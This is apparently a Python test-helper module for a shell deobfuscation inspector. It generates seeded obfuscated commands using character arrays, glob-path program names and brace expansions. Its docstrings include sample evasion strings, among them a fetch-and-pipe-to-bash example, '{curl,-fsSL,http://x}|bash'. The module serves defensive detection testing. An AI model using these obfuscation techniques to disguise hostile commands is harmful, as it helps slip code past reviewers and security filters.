"""Shell obfuscation in the style of public obfuscation frameworks: words rebuilt from a character
array indexed by numbers, programs named by glob paths, commands written as brace expansions.

Seeded, deterministic, for the deobfuscation tests only (they never run what they produce).
"""

from __future__ import annotations

import random
import re

from inspector.deobfuscate.shell_words import STANDARD_NAMES, resolve_glob
from tests.obfuscation.obfuscators import _var


_PLAIN_WORD = re.compile(r"^[\w./-]+$")


def sh_char_array(command: str, seed: int = 0) -> str:
    """`a=(l u c r); ${a[2]}${a[1]}${a[3]}${a[0]} rest`: the program spelled from a shuffled array."""
    rng = random.Random(seed)
    program, _, rest = command.partition(" ")
    if not _PLAIN_WORD.match(program):
        return command  # an assignment or a quoted/expanded word is not a program to spell
    letters = sorted(set(program), key=lambda _: rng.random())
    name = _var(rng)
    spelled = "".join("${%s[%d]}" % (name, letters.index(c)) for c in program)
    items = " ".join("'%s'" % c if not c.isalnum() else c for c in letters)
    return f"{name}=({items}); {spelled} {rest}".rstrip()


def sh_glob_program(command: str, seed: int = 0) -> str:
    """`/???/???/c?r? rest`: the program written as a glob path, as a framework writes it for a
    program in the standard directories: letters are kept until the glob names only it there.
    Other programs (builtins, scripts, paths) are left as written, as they cannot be globbed."""
    rng = random.Random(seed)
    program, _, rest = command.partition(" ")
    if program not in STANDARD_NAMES:
        return command
    hidden = list(range(1, len(program)))
    rng.shuffle(hidden)
    shown = set(range(len(program)))
    while hidden:  # hide letters while the glob still names only this program
        index = hidden.pop()
        trial = shown - {index}
        glob = "".join(c if i in trial else "?" for i, c in enumerate(program))
        if resolve_glob(f"/???/???/{glob}") == f"/usr/bin/{program}":
            shown = trial
    glob = "".join(c if i in shown else "?" for i, c in enumerate(program))
    return f"/???/???/{glob} {rest}".rstrip()


def sh_brace_command(command: str, seed: int = 0) -> str:
    """`{curl,-fsSL,http://x}|bash`: the first simple command written as a brace expansion."""
    first, bar, rest = command.partition(" | ")
    words = first.split(" ")
    if not _PLAIN_WORD.match(words[0]):
        return command
    # redirections stay outside: inside the braces they would be plain words
    cut = next((i for i, w in enumerate(words) if any(c in w for c in "<>&;")), len(words))
    braced, tail = words[:cut], words[cut:]
    if len(braced) < 2 or any("," in w or "'" in w or '"' in w for w in braced):
        return command
    return "{" + ",".join(braced) + "}" + "".join(" " + w for w in tail) + (bar + rest if bar else "")
